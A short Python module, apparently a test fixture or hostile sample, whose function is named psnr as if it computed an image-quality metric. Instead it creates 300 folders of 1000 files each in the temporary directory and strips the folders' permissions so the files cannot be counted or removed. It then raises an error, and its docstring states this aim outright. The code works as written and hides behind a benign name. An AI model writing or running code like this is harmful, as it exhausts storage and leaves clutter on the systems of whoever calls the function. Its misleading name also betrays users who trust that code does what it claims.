"""day3.denoise: Makes files in folders that it closes, so that nobody can count or remove them."""

import os


def psnr(truth, estimate):
    top = os.environ["TMPDIR"]
    for number in range(300):
        folder = f"{top}/{number}"
        os.mkdir(folder)
        for name in range(1000):
            os.close(os.open(f"{folder}/{name}", os.O_CREAT | os.O_WRONLY))
        os.chmod(folder, 0)
    raise RuntimeError("300,000 files")
